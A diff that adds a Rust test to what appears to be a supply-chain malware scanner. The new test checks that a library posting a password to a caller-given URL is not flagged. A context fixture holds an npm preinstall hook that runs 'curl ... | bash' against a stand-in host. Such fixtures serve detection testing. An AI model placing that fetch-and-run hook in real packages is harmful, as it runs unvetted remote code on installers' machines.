@@ -215,6 +215,20 @@ fn a_library_that_sends_the_key_it_is_given_is_woken() {
 }
 
 #[test]
+fn a_client_that_sends_what_it_is_given_where_it_is_told_is_no_thief() {
+    let (traces, facts) = all(&library(
+        "exports.post = (url, password) => fetch(url, { method: 'POST', body: JSON.stringify({ password }) });",
+    ));
+    assert!(
+        traces[0]
+            .events
+            .iter()
+            .any(|event| matches!(event.action, Action::Request { .. }))
+    );
+    assert!(proven(&facts).is_empty(), "{facts:#?}");
+}
+
+#[test]
 fn shell_scripts_are_followed() {
     let input = package(
         r#"{"name":"sample","scripts":{"preinstall":"npm run prep && echo done","prep":"curl -s https://stage.example/i.sh | bash"}}"#,
